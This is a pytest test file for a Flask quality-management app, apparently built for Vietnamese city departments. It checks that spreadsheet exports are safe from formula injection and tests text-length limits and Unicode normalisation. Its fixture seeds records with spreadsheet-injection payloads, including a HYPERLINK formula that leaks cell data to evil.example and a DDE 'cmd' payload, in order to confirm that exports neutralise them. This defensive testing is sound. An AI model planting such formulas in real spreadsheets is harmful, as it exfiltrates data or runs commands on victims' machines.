"""Text that comes in hostile, huge or in another Unicode form: spreadsheets never hold a live formula,
every column's length holds at the form, the import and the service, and text is stored in NFC."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import func, select

from audits.models import ActionItem, Finding
from audits.services import importing
from audits.services.demo import load_audit_demo
from cli import cli
from qms.extensions import db
from qms.models.documents import ControlledDocument
from qms.models.objectives import Objective
from qms.models.org import Unit, User
from qms.models.processes import Process
from qms.models.risks import Risk
from qms.services import demo, org, setup
from qms.services.errors import DomainError, ImportFailed
from qms.text import MAX_TEXT, clean, limit_of
from tests.conftest import build_app

ADMIN = next(u.email for u in demo.DEMO_USERS if "admin" in u.roles)
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
HOSTILE = [LEAK, "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=2+2"]


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    """The demo city and its 2018 audits, with formulas typed into the text people enter."""
    folder: Path = tmp_path_factory.mktemp("hostile")
    app = build_app(f"sqlite:///{folder / 'qms.sqlite3'}", folder / "instance")
    with app.app_context():
        setup.initialise()
        demo.load_demo()
        load_audit_demo()
        targets = [
            (Unit, "name"), (User, "full_name"), (Objective, "statement"), (Objective, "indicator"),
            (Risk, "title"), (ControlledDocument, "title"), (Process, "title"), (Finding, "statement"),
            (Finding, "evidence"), (ActionItem, "what"), (ActionItem, "owner_name"),
        ]  # fmt: skip
        n = 0
        for model, attribute in targets:
            for record in db.session.scalars(select(model)):
                setattr(record, attribute, HOSTILE[n % len(HOSTILE)] + f" {n}")
                n += 1
        db.session.commit()
        db.session.remove()
    yield app
    with app.app_context():
        db.engine.dispose()


@pytest.fixture(scope="module")
def admin(hostile_app: Flask) -> FlaskClient:
    client = hostile_app.test_client()
    assert client.post("/login", data={"email": ADMIN, "password": demo.DEMO_PASSWORD}).status_code == 302
    return client


def _ids(app: Flask) -> dict[str, int]:
    with app.app_context():
        city = db.session.scalar(select(Unit.id).where(Unit.parent_id.is_(None)).order_by(Unit.id).limit(1))
        tnmt = db.session.scalar(select(Unit.id).where(Unit.code == "P-TNMT"))
        return {"city": int(city), "tnmt": int(tnmt)}


def assert_no_formula(data: bytes, where: str) -> list[str]:
    """Every cell of every sheet is a value, never a formula; the texts of the cells."""
    workbook = load_workbook(BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_no_spreadsheet_export_holds_a_formula(
    hostile_app: Flask, admin: FlaskClient, tmp_path: Path
) -> None:
    ids = _ids(hostile_app)
    urls = [
        "/admin/units?format=xlsx",
        "/admin/users?format=xlsx",
        "/documents/?all=1&format=xlsx",
        f"/units/{ids['tnmt']}/documents?format=xlsx",
        "/procedures/?format=xlsx",
        f"/procedures/unit/{ids['tnmt']}?format=xlsx",
        f"/units/{ids['city']}/objectives?year=2018&format=xlsx",
        f"/units/{ids['city']}/statistics?year=2018&format=xlsx",
        f"/units/{ids['tnmt']}/context/?format=xlsx",
        "/audits/findings?year=2018&format=xlsx",
        "/audits/actions?year=2018&format=xlsx",
        "/audits/programmes/2018/findings.xlsx",
        "/issued/export.xlsx",
    ]
    hostile_seen = set()
    for url in urls:
        response = admin.get(url)
        assert response.status_code == 200, url
        texts = assert_no_formula(response.data, url)
        hostile_seen |= {t.split(" ")[0] for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))}
    with hostile_app.app_context():
        output = tmp_path / "register.xlsx"
        result = hostile_app.test_cli_runner().invoke(
            cli, ["export", "findings", "--year", "2018", "-o", str(output)]
        )
        assert result.exit_code == 0, result.output
        texts = assert_no_formula(output.read_bytes(), "qms export findings")
    assert any(t.startswith(LEAK) for t in texts)  # kept as the text that was typed
    assert {h.split(" ")[0] for h in HOSTILE} <= hostile_seen


def test_numbers_stay_numbers_and_formula_text_is_text(hostile_app: Flask, admin: FlaskClient) -> None:
    ids = _ids(hostile_app)
    data = admin.get(f"/units/{ids['city']}/statistics?year=2018&format=xlsx").data
    sheet = load_workbook(BytesIO(data)).active
    assert any(isinstance(c.value, int) and c.data_type == "n" for row in sheet.iter_rows() for c in row)
    data = admin.get("/audits/programmes/2018/findings.xlsx").data
    cells = [c for row in load_workbook(BytesIO(data)).active.iter_rows() for c in row]
    typed = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert typed and all(c.data_type == "s" and c.quotePrefix for c in typed)


def test_a_header_that_looks_like_a_formula_is_text() -> None:
    from qms.exports.workbook import sheet_workbook, to_bytes

    data = to_bytes(sheet_workbook("T", ["=1+1", "Tên"], [["=2+2", 3]], lang="vi"))
    texts = assert_no_formula(data, "sheet_workbook")
    assert texts[:3] == ["=1+1", "Tên", "=2+2"]


# --- lengths -----------------------------------------------------------------------------------------


def test_a_service_refuses_text_longer_than_its_column(app: Flask, orgdata) -> None:  # type: ignore[no-untyped-def]
    assert limit_of(Unit.name) == 200 and limit_of(Objective.statement) == MAX_TEXT
    with pytest.raises(DomainError) as caught:
        org.create_unit(actor=None, code="P-LONG", name="Đ" * 1000, kind="department")
    assert caught.value.field == "name" and "200" in caught.value.message
    unit = orgdata.unit_a
    with pytest.raises(DomainError) as caught:
        unit.name = "x" * 201
    assert caught.value.field == "name"
    assert unit.name == "Phòng A"  # unchanged
    db.session.rollback()
    assert db.session.scalar(select(func.count(Unit.id)).where(Unit.code == "P-LONG")) == 0


def test_a_form_shows_the_length_error_next_to_the_field_and_keeps_the_input(
    as_user,
    orgdata,  # type: ignore[no-untyped-def]
) -> None:
    client = as_user("manager_a")
    url = f"/units/{orgdata.unit_a.id}/context/risks/new"
    long_text = "Mô tả rủi ro " + "a" * MAX_TEXT
    response = client.post(
        url,
        data={"kind": "risk", "title": "Rủi ro dài", "description": long_text, "likelihood": 2, "impact": 3},
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "20.000" in page or "20,000" in page  # the limit, said next to the field
    assert "Rủi ro dài" in page  # the input is kept
    assert db.session.scalar(select(func.count(Risk.id)).where(Risk.title == "Rủi ro dài")) == 0


def test_a_huge_post_is_refused_without_an_error_page(as_user, orgdata) -> None:  # type: ignore[no-untyped-def]
    client = as_user("manager_a")
    url = f"/units/{orgdata.unit_a.id}/context/risks/new"
    data = {"kind": "risk", "title": "Rất lớn", "description": "x" * 5_000_000, "likelihood": 2, "impact": 3}
    response = client.post(url, data=data)
    assert response.status_code in (200, 413)
    assert db.session.scalar(select(func.count(Risk.id)).where(Risk.title == "Rất lớn")) == 0


def test_an_import_names_the_row_and_column_of_a_too_long_cell(app: Flask, orgdata, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "units.csv"
    path.write_text(
        "code,name,kind,parent_code\nP-OK,Phòng tốt,department,\nP-LONG," + "Đ" * 1000 + ",department,\n",
        encoding="utf-8",
    )
    with pytest.raises(ImportFailed) as caught:
        org.import_units(path, actor=None)
    assert (caught.value.row, caught.value.column) == (3, "name")
    assert db.session.scalar(select(func.count(Unit.id)).where(Unit.code.in_(["P-OK", "P-LONG"]))) == 0
    statement = "x" * (MAX_TEXT + 1)
    findings = tmp_path / "findings.csv"
    findings.write_text(
        ",".join(importing.COLUMNS)
        + f"\nDG-2017-04,P-A,2017-10-02,2017-10-03,minor,2008,4.2.3,{statement},,2017-10-02,,\n",
        encoding="utf-8",
    )
    with pytest.raises(ImportFailed) as caught:
        importing.import_findings(findings, actor=None)
    assert (caught.value.row, caught.value.column) == (2, "statement")


# --- Unicode -----------------------------------------------------------------------------------------

NFC_NAME = "Phòng Tài nguyên và Môi trường"
NFD_NAME = unicodedata.normalize("NFD", NFC_NAME)


def test_text_is_stored_in_nfc_without_control_characters(app: Flask, orgdata) -> None:  # type: ignore[no-untyped-def]
    assert NFD_NAME != NFC_NAME
    unit = org.create_unit(actor=None, code="P-TNMT", name=NFD_NAME + "\x0b\x00", kind="department")
    db.session.commit()
    db.session.expire_all()
    assert db.session.get(Unit, unit.id).name == NFC_NAME
    assert clean("a\tb\r\nc\x1f") == "a\tb\r\nc"


def test_a_form_posted_in_nfd_is_stored_in_nfc(as_user, orgdata) -> None:  # type: ignore[no-untyped-def]
    client = as_user("admin")
    response = client.post("/admin/units/new", data={"code": "P-NFD", "name": NFD_NAME, "kind": "department"})
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    assert db.session.scalar(select(Unit.name).where(Unit.code == "P-NFD")) == NFC_NAME


def test_the_same_finding_in_nfc_and_nfd_is_imported_once(app: Flask, orgdata, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    statement = "Danh mục tài liệu chưa cập nhật"
    header = ",".join(importing.COLUMNS)
    line = "DG-2017-04,P-A,2017-10-02,2017-10-03,observation,2008,4.2.3,{},,2017-10-02,,\n"
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    first.write_text(f"{header}\n" + line.format(statement), encoding="utf-8")
    second.write_text(f"{header}\n" + line.format(unicodedata.normalize("NFD", statement)), encoding="utf-8")
    assert importing.import_findings(first, actor=None).findings == 1
    db.session.commit()
    again = importing.import_findings(second, actor=None)
    assert (again.findings, again.skipped) == (0, 1)
    db.session.commit()
    assert db.session.scalar(select(Finding.statement)) == statement
